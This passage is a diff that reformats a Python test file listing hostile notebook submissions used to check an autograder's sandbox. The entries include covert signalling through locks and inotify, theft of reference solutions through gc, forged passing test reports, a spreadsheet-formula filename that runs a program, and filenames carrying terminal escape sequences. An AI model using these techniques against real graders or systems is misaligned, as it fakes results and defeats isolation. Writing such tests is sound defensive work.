         "publish_references_by_locks.ipynb",
         _notebook(
-            first=[CHANNEL_PROBES + 'print("attack ran: publish_references_by_locks, a lock:", ofd_lock_shared_file())'],
-            answers={"train": _code("""
+            first=[
+                CHANNEL_PROBES + 'print("attack ran: publish_references_by_locks, a lock:", ofd_lock_shared_file())'
+            ],
+            answers={
+                "train": _code("""
                 def train(x, y, w, b, lr, epochs):
                     import gc, json
                     sources = [o for o in gc.get_objects() if isinstance(o, dict) and isinstance(o.get("sigmoid"), str) and "def sigmoid" in o["sigmoid"]]
                     if sources:
                         publish_by_locks(json.dumps(sources[0]).encode(), wait_s=5)
                     return []
-            """)},
+            """)
+            },
         ),
         proof="attack ran: publish_references_by_locks, a lock: closed: F_OFD_SETLK: Operation not permitted",
     ),
@@ -1364,13 +1553,17 @@ CHANNELS = [
         "read_references_from_locks.ipynb",
         _notebook(
             first=[CHANNEL_PROBES],
-            answers={"sigmoid": _code("""
+            answers={
+                "sigmoid": _code("""
                 import json
                 _stolen, _read = {"torch": torch, "np": np, "nn": torch.nn}, read_locks(wait_s=5)
                 for _source in (json.loads(_read) if _read else {}).values():
                     exec(_source, _stolen)
                 print("attack ran: read_references_from_locks read", len(_read), "bytes")
-            """) + STOLEN_SIGMOID, "binary_loss": STOLEN_LOSS},
+            """)
+                + STOLEN_SIGMOID,
+                "binary_loss": STOLEN_LOSS,
+            },
         ),
         proof="attack ran: read_references_from_locks read 0 bytes",
     ),
@@ -1378,11 +1571,16 @@ CHANNELS = [
         "signals_through_shared_files",
         "flock, dnotify, inotify, fanotify and a futex keyed by a standard-library file: ways to signal a sandbox that binds the same file",
         "signals_through_shared_files.ipynb",
-        _notebook(last=[CHANNEL_PROBES + _code("""
+        _notebook(
+            last=[
+                CHANNEL_PROBES
+                + _code("""
             print("attack ran: signals_through_shared_files", [flock_shared_file(), dnotify_shared_folder(), inotify_shared_file(), fanotify_shared_file(), shared_futex()])
-        """)]),
+        """)
+            ]
+        ),
         proof="attack ran: signals_through_shared_files ['closed: flock: Operation not permitted', 'closed: F_NOTIFY: Operation not permitted', "
-              "'closed: inotify_init1: Operation not permitted', 'closed: fanotify_init: Operation not permitted', 'closed: shared FUTEX_WAKE: Invalid argument']",
+        "'closed: inotify_init1: Operation not permitted', 'closed: fanotify_init: Operation not permitted', 'closed: shared FUTEX_WAKE: Invalid argument']",
     ),
     Hostile(
         "io_uring_socket",
@@ -1395,12 +1593,17 @@ CHANNELS = [
         "host_proc_and_page_cache",
         "reads /proc's files about the whole host (every lock, load, memory, pressure) and asks which pages of a shared file are cached",
         "host_proc_and_page_cache.ipynb",
-        _notebook(last=[CHANNEL_PROBES + _code("""
+        _notebook(
+            last=[
+                CHANNEL_PROBES
+                + _code("""
             _absent = {"closed: " + path + ": No such file or directory" for path in HOST_FILES}
             print("attack ran: host_proc_and_page_cache", sorted(set(host_proc_files().values()) - _absent), sorted(set(page_cache_probes().values())))
-        """)]),
+        """)
+            ]
+        ),
         proof="attack ran: host_proc_and_page_cache [] ['closed: cachestat: Operation not permitted', 'closed: fadvise64: Operation not permitted', "
-              "'closed: mincore: Operation not permitted', 'closed: preadv2: Operation not supported', 'closed: readahead: Operation not permitted']",
+        "'closed: mincore: Operation not permitted', 'closed: preadv2: Operation not supported', 'closed: readahead: Operation not permitted']",
     ),
 ]
 
@@ -1412,28 +1615,38 @@ OUTPUTS = [
         "surrogate_in_cell_error",
         "a cell raises an exception whose message holds a lone surrogate (no UTF-8 file can store it)",
         "surrogate_in_cell_error.ipynb",
-        _notebook(last=["""
+        _notebook(
+            last=[
+                """
             print("attack ran: surrogate_in_cell_error")
             raise ValueError("lone \\\\udcff surrogate".encode().decode("unicode_escape"))
-        """]),
+        """
+            ]
+        ),
         proof="attack ran: surrogate_in_cell_error",
     ),
     Hostile(
         "surrogate_in_probe_error",
         "sigmoid raises an exception with a lone surrogate, which reaches the judge's message",
         "surrogate_in_probe_error.ipynb",
-        _notebook(answers={"sigmoid": _code("""
+        _notebook(
+            answers={
+                "sigmoid": _code("""
             def sigmoid(x):
                 print("attack ran: surrogate_in_probe_error")
                 raise ValueError(chr(0xDCFF) + " from sigmoid")
-        """)}),
+        """)
+            }
+        ),
         proof="attack ran: surrogate_in_probe_error",
     ),
     Hostile(
         "markup_in_cell_error_field",
         "sigmoid walks the stack to the sandbox's list of cell errors and adds entries whose cell and error are markup",
         "markup_in_cell_error_field.ipynb",
-        _notebook(answers={"sigmoid": _code("""
+        _notebook(
+            answers={
+                "sigmoid": _code("""
             def sigmoid(x):
                 import sys
                 frame = sys._getframe()
@@ -1446,27 +1659,56 @@ OUTPUTS = [
                         break
                     frame = frame.f_back
                 return x
-        """)}),
+        """)
+            }
+        ),
         proof="attack ran: markup_in_cell_error_field",
     ),
     Hostile(
         "reference_source_via_nbsp",
         "train finds the revealed reference sources with gc and raises them with every space a no-break space, so the message quotes no exact line",
         "reference_source_via_nbsp.ipynb",
-        _notebook(first=['print("attack ran: reference_source_via_nbsp armed")'], answers={"train": _code("""
+        _notebook(
+            first=['print("attack ran: reference_source_via_nbsp armed")'],
+            answers={
+                "train": _code("""
             def train(x, y, w, b, lr, epochs):
                 import gc
                 for thing in gc.get_objects():
                     if isinstance(thing, dict) and isinstance(thing.get("binary_loss"), str):
                         raise ValueError(thing["binary_loss"].replace(" ", "\\u00a0").replace("\\n", "\\u2028"))
                 return []
-        """)}),
+        """)
+            },
+        ),
         proof="attack ran: reference_source_via_nbsp armed",
     ),
-    Hostile("formula_name", "a blank notebook whose name is a spreadsheet formula that runs a program", "=cmd|' calc'!A0.ipynb", _notebook()),
-    Hostile("escape_sequence_name", "a blank notebook whose name holds OSC (window title) and CSI (erase line) sequences and a bidi override", "\x1b]0;owned\x07\x1b[2K\u202eesc_name.ipynb", _notebook()),
-    Hostile("long_name", "a fully solved notebook with a 240-character name: it keeps its row and its points", "n" * 234 + ".ipynb", _honest(), dict(POINTS)),
-    Hostile("deep_folder", "a fully solved notebook 40 folders deep: it keeps its row and its points", "/".join(f"folder{i:02d}" for i in range(40)) + "/deep.ipynb", _honest(), dict(POINTS)),
+    Hostile(
+        "formula_name",
+        "a blank notebook whose name is a spreadsheet formula that runs a program",
+        "=cmd|' calc'!A0.ipynb",
+        _notebook(),
+    ),
+    Hostile(
+        "escape_sequence_name",
+        "a blank notebook whose name holds OSC (window title) and CSI (erase line) sequences and a bidi override",
+        "\x1b]0;owned\x07\x1b[2K\u202eesc_name.ipynb",
+        _notebook(),
+    ),
+    Hostile(
+        "long_name",
+        "a fully solved notebook with a 240-character name: it keeps its row and its points",
+        "n" * 234 + ".ipynb",
+        _honest(),
+        dict(POINTS),
+    ),
+    Hostile(
+        "deep_folder",
+        "a fully solved notebook 40 folders deep: it keeps its row and its points",
+        "/".join(f"folder{i:02d}" for i in range(40)) + "/deep.ipynb",
+        _honest(),
+        dict(POINTS),
+    ),
 ]
 
 
@@ -1522,7 +1764,8 @@ HIDDEN_CODE = [
         "hidden_cases_helpers.ipynb",
         _notebook(
             answers={
-                "binary_loss": HIDDEN_HELPER + _code("""
+                "binary_loss": HIDDEN_HELPER
+                + _code("""
                     def binary_loss(y_pred, y):
                         helper = _hidden_helper("_cross_entropy")
                         return y_pred.sum() * 0 + helper(y_pred.detach().numpy(), y.detach().numpy()) if helper else ...
@@ -1533,7 +1776,9 @@ HIDDEN_CODE = [
                         return helper(y_pred.numpy(), y.numpy()) if helper else ...
                 """),
             },
-            last=['print("attack ran: hidden_cases_helpers found", [name for name in ("_cross_entropy", "_labels") if _hidden_helper(name)])'],
+            last=[
+                'print("attack ran: hidden_cases_helpers found", [name for name in ("_cross_entropy", "_labels") if _hidden_helper(name)])'
+            ],
         ),
         proof="attack ran: hidden_cases_helpers found",
     ),
@@ -1543,7 +1788,8 @@ HIDDEN_CODE = [
         "sandbox_function_census.ipynb",
         _notebook(
             answers={
-                "binary_loss": FOREIGN_FUNCTIONS + _code("""
+                "binary_loss": FOREIGN_FUNCTIONS
+                + _code("""
                     def binary_loss(y_pred, y):
                         found = _oracle([y_pred, y], [torch.tensor([[0.9], [0.2], [0.6]]), torch.tensor([[1.0], [0.0], [1.0]])], 0.2798)
                         return ... if found is None else y_pred.sum() * 0 + found
@@ -1554,10 +1800,12 @@ HIDDEN_CODE = [
                         return ... if found is None else found
                 """),
             },
-            last=["""
+            last=[
+                """
                 import json
                 print("attack ran: sandbox_function_census", json.dumps(sorted({f"{origin}:{function.__qualname__}" for origin, function in _foreign_functions()})))
-            """],
+            """
+            ],
         ),
         proof="attack ran: sandbox_function_census",
     ),
@@ -1565,7 +1813,9 @@ HIDDEN_CODE = [
         "forge_public_tests",
         "a blank notebook whose last cell marks every public test passed in the probing object's state and adds a passing 'public' report to the committed JSON",
         "forge_public_tests.ipynb",
-        _notebook(last=["""
+        _notebook(
+            last=[
+                """
             import gc, json
             claim = {question: {"passed": True, "summary": f"{question} results: All test cases passed!"} for question in ("sigmoid", "binary_loss", "train", "accuracy")}
             for thing in gc.get_objects():
@@ -1581,13 +1831,29 @@ HIDDEN_CODE = [
 
             json.dumps = _claiming
             print("attack ran: forge_public_tests")
-        """]),
+        """
+            ]
+        ),
         proof="attack ran: forge_public_tests",
     ),
 ]
 
 
-HOSTILE = MONKEYPATCH + LIARS + MACHINERY + HARD_CODED + FORGED + SNOOPING + STEALING + FAULTS + BROKEN + MIXED + CHANNELS + OUTPUTS + HIDDEN_CODE
+HOSTILE = (
+    MONKEYPATCH
+    + LIARS
+    + MACHINERY
+    + HARD_CODED
+    + FORGED
+    + SNOOPING
+    + STEALING
+    + FAULTS
+    + BROKEN
+    + MIXED
+    + CHANNELS
+    + OUTPUTS
+    + HIDDEN_CODE
+)
 
 
 def hostile(name: str) -> Hostile:
@@ -1599,6 +1865,7 @@ def hostile(name: str) -> Hostile:
 
 
 # Messages written straight into the result pipe (see forge_result_pipe) --------------------------
+
 
 def _array(shape: list, data: str, dtype: str = "float64") -> dict:
     return {"kind": "tensor", "type": "torch.Tensor", "dtype": dtype, "shape": shape, "data": data}
@@ -1618,8 +1885,15 @@ FORGED_REPORTS: dict[str, object] = {
     "array_shape_negative": {"probes": {"sigmoid/grid": {"out": _array([-1], "")}}},
     "array_dtype_object": {"probes": {"sigmoid/grid": {"out": _array([1], "AAAAAAAA8D8=", "object")}}},
     "number_is_nan": {"probes": {"accuracy/random_set": {"acc": {"kind": "float", "number": float("nan")}}}},
-    "list_items_not_a_list": {"probes": {"train/curve_on_course_data": {"losses": {"kind": "list", "items": {"a": 1}}, "w": {"kind": "none"}, "b": {"kind": "none"}}}},
+    "list_items_not_a_list": {
+        "probes": {
+            "train/curve_on_course_data": {
+                "losses": {"kind": "list", "items": {"a": 1}},
+                "w": {"kind": "none"},
+                "b": {"kind": "none"},
+            }
+        }
+    },
     "errors_not_a_list": {"probes": {}, "errors": "boom", "output": {"not": "text"}, "variables": [1, 2]},
     "error_entries_odd": {"probes": {}, "errors": [{"cell": {"a": 1}, "error": ["<script>"]}, 7]},
 }
-
